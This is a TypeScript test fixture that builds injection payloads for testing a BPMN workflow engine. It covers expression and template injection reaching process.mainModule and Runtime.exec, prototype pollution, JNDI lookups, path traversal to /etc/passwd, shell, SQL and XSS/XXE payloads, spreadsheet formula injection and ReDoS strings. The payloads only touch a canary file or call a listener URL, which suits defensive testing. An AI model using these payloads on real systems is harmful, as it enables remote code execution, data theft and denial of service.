/** What somebody writes where a diagram, a form, a letter or a table holds words. */
export interface Payload {
  /** Where it comes from. */
  readonly family: string
  readonly text: string
  /** In another engine it begins code: refused wherever it stands in a diagram. */
  readonly isCode: boolean
}

/** Where the payloads would leave a trace. */
export interface Traces {
  /** A file that is not there. */
  readonly file: string
  /** Where somebody listens whom nobody should call. */
  readonly url: string
  /** A name that nobody should look up. */
  readonly host: string
  /** A property that nothing should have. */
  readonly key: string
}

const CODE = /\$\{|#\{|\{\{/

/** The families of `reliability.md` 4.1 to 4.5: what ran in bpmn-engine, in other engines, or beside them. */
export function payloadsFor({ file, url, host, key }: Traces): readonly Payload[] {
  const write = `require('fs').writeFileSync('${file}','x')`
  const js = `process.mainModule.require('fs').writeFileSync('${file}','x')`
  const families: Readonly<Record<string, readonly string[]>> = {
    // The walker of bpmn-engine calls what it finds (PoC 04, 27), and reads its own output again (07).
    expression: [
      `\${environment.constructor.constructor('${js}').prototype.constructor('x')}`,
      `\${content.id.constructor.constructor('return Function\`${js}\`\`\`')}`,
      '${content.id.constructor.constructor(environment.variables.note)}',
      `\${content.constructor.assign(content.constructor.prototype,environment.variables.form)}`,
      '${content.constructor.freeze(content.constructor.prototype)}',
      '${environment.settings.smtpPassword}',
      '${environment.services.closeCase()}',
      'Complaint from ${environment.variables.complainantName}',
      '${itself}',
      '${'.repeat(200),
      '#{execution.setVariable("x", 1)}',
      '${true}',
    ],
    // Camunda, Flowable, Activiti, jBPM, RuoYi: issues 2291, 3249, 4272, CVE-2014-8125.
    java: [
      `\${"".getClass().forName("java.lang.Runtime").getMethod("exec","".getClass()).invoke(null,"touch ${file}")}`,
      `#{T(java.lang.Runtime).getRuntime().exec("touch ${file}")}`,
      `\${execution.getEngineServices().getRuntimeService()}`,
      `%{(#rt=@java.lang.Runtime@getRuntime()).exec("touch ${file}")}`,
      `@{T(java.lang.System).exit(1)}`,
      `groovy:new File("${file}").text="x"`,
      `rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==`,
      `java.lang.ProcessBuilder`,
    ],
    // n8n: CVE-2025-68613, CVE-2026-1470, CVE-2026-27493; expr-eval: CVE-2025-12735.
    template: [
      `{{ $json.constructor.constructor("${js}")() }}`,
      `{{ range.constructor("return global.${js}")() }}`,
      `={{ (function(){ return this.${js} })() }}`,
      `{% set x = cycler.constructor.constructor("${js}")() %}`,
      `<%= global.${js} %>`,
      `[[\${7*7}]]`,
      `{${js}}`,
      `{#x}{constructor}{/x}`,
    ],
    script: [
      js,
      write,
      `while(true){}`,
      `next.constructor('return process')().exit(1)`,
      `this.constructor.constructor('return process')().exit(1)`,
      `import('node:fs').then((fs) => fs.writeFileSync('${file}','x'))`,
      `javascript:${write}`,
      `data:text/javascript,${encodeURIComponent(write)}`,
      `\u0060\u0024(touch ${file})\u0060`,
    ],
    feel: [
      `= get value(a, "constructor")`,
      `a.constructor.constructor("${js}")()`,
      `= matches("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "(a+)+$")`,
      `count(for i in 1..1000000000 return i) > 0`,
      `some a in xs, b in xs, c in xs satisfies a = b`,
      `function(x) external { java: { class: "java.lang.System", method signature: "exit(int)" } }`,
      `{ f: function(x) f(x) }.f(1)`,
      `__proto__.${key} = true`,
    ],
    prototype: [
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      '__defineGetter__',
      `__proto__[${key}]`,
      `constructor.prototype.${key}`,
      `{"__proto__":{"${key}":true}}`,
    ],
    reach: [
      url,
      `//${host}/x`,
      `https://${host}/x?\${jndi}`,
      `\${jndi:ldap://${host}/x}`,
      `file:///etc/passwd`,
      `../../../../../..${file}`,
      `\\\\${host}\\share`,
      `smtp://${host}:25`,
    ],
    shell: [`; touch ${file} #`, `$(touch ${file})`, `| touch ${file}`, `& touch ${file} &`],
    query: [`'; drop table cases; --`, `" or "1"="1`, `1); attach database '${file}' as x; --`],
    markup: [
      `<script>${write}</script>`,
      `]]><script>1</script><![CDATA[`,
      `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
      `&xxe;`,
      `"><img src=x onerror="fetch('${url}')">`,
      `<?php system('touch ${file}') ?>`,
    ],
    sheet: [`=cmd|'/C touch ${file}'!A0`, `+HYPERLINK("${url}")`, `@SUM(1)`],
    text: ["$& $` $' $1 $$", '%s %n %x %00', '\u202Efdp.exe\u2066', 'x\u200By', 'Zoë 🧒🏽 ي'],
    time: ['R/PT0S', 'R1000000/PT0S', 'P9999999999Y', '1e999', '-1', '99999999999999999999'],
  }
  return Object.entries(families).flatMap(([family, texts]) =>
    texts.map((text) => ({ family, text, isCode: CODE.test(text) })),
  )
}
